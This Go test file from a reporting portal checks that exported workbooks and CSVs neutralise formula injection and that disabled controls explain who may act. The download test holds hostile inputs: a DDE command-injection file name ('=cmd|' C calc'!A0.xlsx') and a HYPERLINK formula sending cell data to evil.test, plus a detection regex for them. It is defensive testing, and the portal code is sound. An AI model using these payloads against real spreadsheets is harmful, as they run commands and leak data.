package portal

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"path"
	"regexp"
	"strings"
	"testing"

	"huibao/act"
	"huibao/samples"
)

var (
	formulaText = regexp.MustCompile(`<f[ >][^<]*(?:evil\.test|cmd\|)`)
	plainNumber = regexp.MustCompile(`^[+-]?[0-9][0-9,.]*%?$`)
)

// injected says where a workbook or a CSV holds a typed text that a spreadsheet would run.
func injected(t *testing.T, name string, data []byte) (where []string) {
	t.Helper()
	switch path.Ext(name) {
	case ".xlsx":
		z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		must(t, err)
		for _, f := range z.File {
			r, err := f.Open()
			must(t, err)
			part, err := io.ReadAll(r)
			must(t, err)
			if formulaText.Match(part) {
				where = append(where, f.Name)
			}
		}
	case ".csv":
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
		must(t, err)
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
					where = append(where, cell)
				}
			}
		}
	}
	return where
}

// TestS10Downloads: what people typed and called their files is text in every workbook and CSV
// that the portal offers, drafts and annotated copies, however it begins.
func TestS10Downloads(t *testing.T) {
	h := newHouse(t)
	clerk, officer := h.clerk(), h.overseer()
	for _, c := range []struct {
		name, data string
		fires      bool
	}{{"a.csv", "a,=1+1\n", true}, {"a.csv", "a,@x\n", true}, {"a.csv", "\"\t=1\",b\n", true}, {"a.csv", "a,-12\n+3.5%,'=1\n", false}} {
		if got := injected(t, c.name, []byte(c.data)); (len(got) > 0) != c.fires {
			t.Errorf("%q: %q", c.data, got)
		}
	}
	const typed = `=HYPERLINK("http://evil.test/?"&A1,"点这里")`
	takenNo(t, clerk.handIn(h.mine, upload{"=cmd|' C calc'!A0.xlsx", another(h.example(), 60)}))
	h.judge()
	page := "/r/" + june + "/" + h.mine
	ids := regexp.MustCompile(`name="finding" value="([^"]+)"`).FindAllStringSubmatch(clerk.get(page).body, -1)
	if len(ids) == 0 {
		t.Fatal("nothing to explain")
	}
	for _, id := range ids {
		if r := clerk.post(page+"/explain", "finding", id[1], "text", typed); r.status != http.StatusSeeOther {
			t.Fatal(r.status)
		}
	}
	h.judge()
	files, annotated := 0, 0
	look := func(b *browser, link string) {
		r := b.get(link)
		name, err := url.PathUnescape(path.Base(link))
		must(t, err)
		if strings.Contains(link, "/annotated/") {
			name = "annotated.xlsx"
		}
		if r.status != http.StatusOK {
			t.Errorf("%s: %d", link, r.status)
			return
		}
		files++
		if where := injected(t, name, []byte(r.body)); len(where) > 0 {
			t.Errorf("%s: %q", name, where)
		}
	}
	drafts := "/period/" + samples.Periods()[1].Period.String()
	for _, link := range linked(officer.get(drafts).body, drafts+"/draft/") {
		look(officer, link)
	}
	for _, link := range linked(clerk.get(page).body, page+"/annotated/") {
		annotated++
		look(clerk, link)
	}
	if files < 6 || annotated == 0 {
		t.Errorf("%d files were looked at, %d annotated", files, annotated)
	}
}

var (
	closedButton = regexp.MustCompile(`<(?:button|input|select|textarea)[^>]*\sdisabled[^>]*>`)
	describedBy  = regexp.MustCompile(`aria-describedby="([^"]+)"`)
)

// TestR7Closed: whatever can't be done here and now says why and whose it is: no page shows a
// control that is closed without a word, and who may not act is told who does.
func TestR7Closed(t *testing.T) {
	h := newHouse(t)
	people := map[act.Role]*browser{}
	for _, role := range act.Roles() {
		held := act.Held{Role: role}
		if role.OfUnit() {
			held.Unit = h.mine
		}
		h.admit(string("p"+role), held)
		people[role] = h.enter(string("p" + role))
	}
	pages := []string{"/", "/r/" + june + "/" + h.mine, "/r/" + june + "/" + h.mine + "/sign", "/board/" + june, "/board/" + june + "/remind", "/lock/" + june, "/blanks/" + june,
		"/period/" + june, "/plan", "/settings", "/people", "/notices", "/me", "/decide/" + june + "/" + h.mine}
	for _, state := range []string{"open", "locked"} {
		for role, b := range people {
			for _, page := range pages {
				body := b.get(page).body
				for _, control := range closedButton.FindAllString(body, -1) {
					by := describedBy.FindStringSubmatch(control)
					if by == nil || !strings.Contains(body, `id="`+by[1]+`"`) {
						t.Errorf("%s, %s, %s: %s does not say why", state, role, page, control)
					}
				}
			}
		}
		if state == "open" {
			for _, c := range []struct {
				role       act.Role
				page, says string
			}{
				{act.Reviewer, "/", "报送由本单位的填报人办"}, {act.Signer, "/r/" + june + "/" + h.mine, "报送由本单位的填报人办"},
				{act.Officer, "/lock/" + june, "锁定和解锁归办公室负责人办（"}, {act.Officer, "/plan", "换方案由办公室负责人办"},
				{act.Officer, "/settings", "改设置归办公室负责人办"}, {act.Keeper, "/settings", "改设置归办公室负责人办"},
			} {
				if !strings.Contains(people[c.role].get(c.page).body, c.says) {
					t.Errorf("%s at %s is not told: %s", c.role, c.page, c.says)
				}
			}
			h.lock()
		}
	}
	if page := people[act.Clerk].get("/r/" + june + "/" + h.mine).body; !strings.Contains(page, "要改请办公室解锁") {
		t.Error("a clerk is not told who opens what is locked")
	}
}
